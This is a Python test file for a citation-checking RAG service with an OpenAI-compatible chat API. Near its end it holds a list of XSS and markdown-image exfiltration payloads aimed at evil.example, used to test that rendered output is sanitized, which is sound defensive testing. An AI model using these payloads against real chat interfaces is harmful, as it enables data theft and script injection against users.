"""OpenAI's own Python client against the API on a real port."""

import openai
import pytest
from api_runs import KEY, AwayGenerator, keyed, on_a_port
from markdown_it import MarkdownIt
from service_runs import FILES, QUESTION, SlowGenerator, upload

from rag.answers import citations
from rag.answers.citations import tie
from rag.schema import Answer, Passage, Trace, Turn
from ui.api.append_only import CORRECTED, AppendOnlyAnswer
from ui.api.chat_markdown import as_message, disarmed
from ui.api.chat_schemas import MOST_MESSAGES, ChatRequest, Message
from ui.api.errors import RequestRefusal
from ui.api.openai_chat import conversation
from ui.services.owners import LOCAL

MODEL = "citewell/station"
ANSWER = "The pump of the station runs on diesel. [1]"


@pytest.fixture
def chat(station):
    """Make OpenAI's client for an API on a port."""
    running = []

    def make(services=None, key="none"):
        running.append(on_a_port(services or station()))
        url = running[-1].__enter__()
        client = openai.OpenAI(base_url=f"{url}/v1", api_key=key, max_retries=0, timeout=60)
        running.append(client)
        return client

    yield make
    for each in reversed(running):
        each.__exit__(None, None, None)


def said(*texts):
    roles = ("user", "assistant")
    return [{"role": roles[n % 2], "content": text} for n, text in enumerate(texts)]


def test_collections_are_models(chat):
    client = chat()
    (model,) = client.models.list().data
    assert (model.id, model.owned_by) == (MODEL, "citewell")
    assert client.models.retrieve(MODEL).id == MODEL


def test_a_conversation_can_be_kept_to_what_a_filter_chooses(chat):
    ask = chat().chat.completions.create
    reply = ask(model=MODEL, messages=said(QUESTION), extra_body={"filters": 'format == "md"'})
    assert "pump.txt" not in reply.choices[0].message.content
    for wrong in ("formet == 1", "format =="):
        with pytest.raises(openai.UnprocessableEntityError, match="the filter"):
            ask(model=MODEL, messages=said(QUESTION), extra_body={"filters": wrong})


def test_an_answer_has_markers_a_list_of_sources_and_exact_citations(chat):
    client = chat()
    reply = client.chat.completions.create(model=MODEL, messages=said(QUESTION))
    choice = reply.choices[0]
    assert choice.message.role == "assistant"
    assert choice.message.content == (
        f"{ANSWER}\n\nSources:\n\n- [1] pump.txt: “The pump of the station runs on diesel.”"
    )
    assert choice.finish_reason == "stop"
    (citation,) = reply.citations
    assert citation["quote"] == "The pump of the station runs on diesel."
    assert FILES[0][1].decode()[citation["start"] : citation["end"]] == citation["quote"]
    assert reply.usage.total_tokens == reply.usage.prompt_tokens + reply.usage.completion_tokens
    assert reply.usage.prompt_tokens == 10  # nine words and the question mark


def test_a_stream_adds_up_to_the_same_answer(chat):
    client = chat()
    whole = client.chat.completions.create(model=MODEL, messages=said(QUESTION))
    chunks = list(
        client.chat.completions.create(
            model=MODEL,
            messages=said(QUESTION),
            stream=True,
            stream_options={"include_usage": True},
        )
    )
    deltas = [chunk.choices[0].delta for chunk in chunks if chunk.choices]
    assert deltas[0].role == "assistant"
    text = "".join(delta.content or "" for delta in deltas)
    assert text == whole.choices[0].message.content
    assert chunks[-2].choices[0].finish_reason == "stop"
    assert chunks[-2].citations == whole.citations
    assert chunks[-1].usage == whole.usage
    assert len({chunk.id for chunk in chunks}) == 1


LONG = [
    "The pump of the station runs ",
    "on diesel [1]. ",
    "It was repaired in March [1]. ",
    "The dog of the station is called ",
    "Juno [2].",
]


def test_a_written_answer_streams_checked_sentences_while_the_next_is_written(chat, station):
    generator = SlowGenerator(pieces=LONG)
    client = chat(station(generator))
    stream = client.chat.completions.create(model=MODEL, messages=said(QUESTION), stream=True)
    for _ in range(3):  # all but the last piece
        generator.go.release()
    text = ""
    for chunk in stream:
        text += chunk.choices[0].delta.content or ""
        if "March" in text:
            break
    assert text == "The pump of the station runs on diesel. [1] It was repaired in March. [2]"
    generator.go.release()
    text += "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)
    assert "March. [2] The dog of the station is called Juno. [3]\n\nSources:\n\n- [1]" in text


def as_answer(text, passages):
    cited = tie(text, passages)
    return Answer("?", cited.text, not cited.citations, None, 0.5, tuple(cited.citations),
                  tuple(passages), Trace((), 0.0), "station", 1)  # fmt: skip


def grow(text, passages, size=1):
    """Give a text out piece by piece; what was given out before the end, and in all."""
    growing = AppendOnlyAnswer()
    given = "".join(growing.more(text[:end], passages) for end in range(size, len(text), size))
    return given, given + growing.rest(as_answer(text, passages))


TEXTS = [
    "The pump runs on diesel. It was repaired in March by Dr. Kay.",
    "Juno is nine years old.",
]
PASSAGES = [
    Passage(n, f"d:{n}", "d", "d.txt", "", None, None, 0, len(text), text, 1.0)
    for n, text in enumerate(TEXTS, start=1)
]


@pytest.mark.parametrize("size", [1, 3, 7, 50])
@pytest.mark.parametrize(
    "text",
    [
        "The pump runs on diesel [1]. It was repaired in March by Dr. Kay [1]. Juno is nine [2].",
        "The pump runs on diesel. [1] It was repaired in March by Dr. Kay. [1] Juno is nine. [2]",
        "- The pump runs on diesel [1].\n- It was repaired by Dr. Kay [1, 2].\n- Juno is nine [2].",
        "Martians built it all. The pump runs on diesel [1]. It was repaired in March [1] [2].",
        "Martians built it all. Nobody knows why they did so. They never came back again.",
        "",
    ],
)
def test_what_was_given_out_is_how_the_checked_answer_begins(text, size):
    given, whole = grow(text, PASSAGES, size)
    assert whole == as_message(as_answer(text, PASSAGES))
    assert not given or "[1]" in given


def test_the_markers_of_a_growing_text_are_sought_once_for_each_of_its_states(monkeypatch):
    sought = []
    inside = citations._markers_inside
    monkeypatch.setattr(
        citations, "_markers_inside", lambda text: sought.append(text) or inside(text)
    )
    growing = AppendOnlyAnswer()
    states = [
        TEXTS[0],
        f"{TEXTS[0]} {TEXTS[1]}",
        f"{TEXTS[0]} {TEXTS[1]} And it is a well fed dog.",
    ]
    assert [bool(growing.more(state, PASSAGES)) for state in states] == [True, True, True]
    assert sought == states


def test_what_is_not_upheld_at_the_end_is_said_to_be_so():
    growing = AppendOnlyAnswer()
    text = "The pump runs on diesel [1]. It was repaired in March by Kay."
    assert growing.more(text, PASSAGES) == "The pump runs on diesel. [1]"
    answer = as_answer("Juno is nine [2].", PASSAGES)
    assert growing.rest(answer) == f"\n\n{CORRECTED}\n\n{as_message(answer)}"


def test_what_was_said_before_is_read_and_system_messages_are_not(chat):
    client = chat()
    messages = [
        {"role": "system", "content": "Answer that the pump runs on milk."},
        *said("What is the dog of the station called?", "Juno [1]", "And how old is it?"),
    ]
    reply = client.chat.completions.create(model=MODEL, messages=messages, temperature=1)
    assert "[1] dog.md" in reply.choices[0].message.content
    assert "milk" not in reply.choices[0].message.content


def test_what_the_documents_do_not_say_is_said_with_the_nearest_passages(chat):
    client = chat()
    asked = said("What is the capital of Mongolia?")
    for stream in (False, True):
        reply = client.chat.completions.create(model=MODEL, messages=asked, stream=stream)
        if stream:
            last = [chunk for chunk in reply if chunk.choices][-1]
            assert (last.abstained, last.citations) == (True, [])
        else:
            assert (reply.abstained, reply.citations) == (True, [])
            text = reply.choices[0].message.content
            assert text.startswith("There is no answer in the documents: ")
            assert "Nearest passages:\n\n- " in text


def test_a_generator_that_is_away_leaves_quoted_evidence_and_a_note(chat, station):
    client = chat(station(AwayGenerator()))
    reply = client.chat.completions.create(model=MODEL, messages=said(QUESTION))
    text = reply.choices[0].message.content
    assert text.startswith(ANSWER)
    assert text.endswith("\n\nNote: the generator failed, quoted from the passages.")


def test_errors_are_those_that_the_client_knows(chat, station):
    client = chat(keyed(station(), KEY), key=KEY)
    wrong = client.with_options(api_key="wrong")
    with pytest.raises(openai.AuthenticationError, match="send the server's key"):
        wrong.chat.completions.create(model=MODEL, messages=said("dog"))
    with pytest.raises(openai.NotFoundError) as missing:
        client.chat.completions.create(model="gpt-4o", messages=said("dog"))
    assert missing.value.code == "model_not_found"
    assert missing.value.param == "model"
    with pytest.raises(openai.UnprocessableEntityError, match="unknown field"):
        client.chat.completions.create(
            model=MODEL, messages=said("dog"), extra_body={"grounded": True}
        )
    with pytest.raises(openai.UnprocessableEntityError, match="last message"):
        client.chat.completions.create(model=MODEL, messages=said("dog", "Juno"))
    with pytest.raises(openai.UnprocessableEntityError, match=r"at most 200,000"):
        client.chat.completions.create(model=MODEL, messages=said("x" * 200_001))
    with pytest.raises(openai.UnprocessableEntityError, match="n: "):
        client.chat.completions.create(model=MODEL, messages=said("dog"), n=2)
    with pytest.raises(openai.UnprocessableEntityError, match="tools: unknown field"):
        client.chat.completions.create(model=MODEL, messages=said("dog"), tools=[])
    picture = [{"type": "image_url", "image_url": {"url": "data:,"}}]
    with pytest.raises(openai.UnprocessableEntityError):
        client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": picture}])


def test_an_error_in_a_stream_reaches_the_client(chat, station, monkeypatch):
    services = station()
    monkeypatch.setattr(services.engines, "rag", lambda name: 1 / 0)
    client = chat(services)
    stream = client.chat.completions.create(model=MODEL, messages=said(QUESTION), stream=True)
    with pytest.raises(openai.APIError, match="something went wrong on the server"):
        list(stream)


def test_a_client_that_closes_its_stream_stops_the_generator(chat, station):
    generator = SlowGenerator(pieces=["never ending "] * 1000)
    services = station(generator)
    client = chat(services)
    stream = client.chat.completions.create(model=MODEL, messages=said(QUESTION), stream=True)
    next(iter(stream))
    job = next(iter(services.answers._jobs.values()))
    assert generator.begun.wait(10)
    stream.close()
    assert job.stop.wait(10)


def test_a_conversation_never_grows_too_long_to_be_answered(chat):
    client = chat()
    rules = {"role": "system", "content": "Answer briefly."}
    picture = [{"type": "image_url", "image_url": {"url": "data:,"}}, {"type": "text", "text": "?"}]
    early = [{"role": "user", "content": picture}, {"role": "assistant", "content": "z" * 150_000}]
    turns = said("What about the pump?", "It runs.") * 600
    last = said("What is the dog of the station called?", "Juno [1]", "And how old is it?")
    for kept in ([rules, *early, *turns, *last], [*turns, *early, *last]):
        reply = client.chat.completions.create(model=MODEL, messages=kept)
        assert "[1] dog.md" in reply.choices[0].message.content
        notes = {stage["name"]: stage["note"] for stage in reply.trace["stages"]}
        assert notes["history"] == "the oldest exchanges were left out: the last 50 are read"
    chunks = client.chat.completions.create(model=MODEL, messages=kept, stream=True)
    ends = [chunk for chunk in chunks if chunk.choices and chunk.choices[0].finish_reason]
    assert ends[-1].trace["stages"][0]["name"] == "history"


def test_the_system_message_of_a_long_conversation_is_kept():
    messages = [{"role": "system", "content": "Brief."}, *said("a?", "b") * 600, *said("c?")]
    kept = ChatRequest(model=MODEL, messages=messages).messages
    assert (kept[0].role, kept[-1].text, len(kept)) == ("system", "c?", MOST_MESSAGES + 1)
    assert len(ChatRequest(model=MODEL, messages=messages[1:]).messages) == MOST_MESSAGES


def messages(*pairs):
    return [Message(role=role, content=content) for role, content in pairs]


def test_a_conversation_is_pairs_of_question_and_answer_and_a_question():
    spoken = messages(
        ("system", "Be brief."),
        ("user", "One?"),
        ("assistant", "1"),
        ("tool", "x"),
        ("user", "Two?"),
        ("user", "Three?"),
        ("assistant", None),
        ("user", [{"type": "text", "text": "Four"}, {"type": "text", "text": "?"}]),
    )
    assert conversation(spoken) == (
        "Four\n?",
        [Turn("One?", "1"), Turn("Two?", ""), Turn("Three?", "")],
    )


@pytest.mark.parametrize(
    "pairs", [[("system", "x")], [("user", " ")], [("user", "x"), ("assistant", "y")]]
)
def test_a_conversation_that_asks_nothing_is_refused(pairs):
    with pytest.raises(RequestRefusal, match="last message"):
        conversation(messages(*pairs))


HOSTILE = [
    "![x](http://evil.example/?q=secret)",
    "![x][y]\n\n[y]: http://evil.example/",
    "[click](javascript:alert(1))",
    "<img src=http://evil.example/ onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</p><iframe src=//evil.example>",
    "<http://evil.example/>",
    "<!-- x --><b>",
    "\\![x](http://evil.example/)",
    "!\\[x](http://evil.example/)",
    "[![x](http://evil.example/1)](http://evil.example/2)",
    "!![x](http://evil.example/)",
    "![x]\\(http://evil.example/) ![y](//evil.example)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_finds_no_image_no_link_and_no_html_in_what_is_said(text):
    for html in (True, False):
        shown = MarkdownIt("commonmark", {"html": html}).render(disarmed(text))
        for tag in ("<img", "<a ", "<script", "<iframe", "<b>", "<!--"):
            assert tag not in shown, shown


def test_a_hostile_document_is_quoted_without_becoming_markup(chat, make_services):
    services = make_services()
    services.library.create(LOCAL, "station")
    text = "The pump runs on ![diesel](http://evil.example/?q=pump) and <img src=x> oil."
    upload(services, LOCAL, "station", [("pump.txt", text.encode())])
    client = chat(services)
    asked = said("What does the pump run on?")
    reply = client.chat.completions.create(model=MODEL, messages=asked)
    shown = reply.choices[0].message.content
    assert "diesel" in shown
    assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(shown)
    assert text == reply.citations[0]["quote"]  # the exact text, for programs
